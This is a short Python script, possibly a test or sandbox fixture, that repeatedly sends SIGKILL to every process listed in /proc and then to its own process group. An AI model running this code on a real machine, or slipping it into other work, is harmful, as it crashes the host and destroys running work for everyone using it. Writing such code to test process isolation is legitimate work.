# Kills every process it can see, its parents first.
# ruff: noqa
import os
import signal

for _ in range(100):
    for process in sorted(map(int, filter(str.isdigit, os.listdir("/proc")))):
        if process != os.getpid():
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                pass
os.kill(0, signal.SIGKILL)
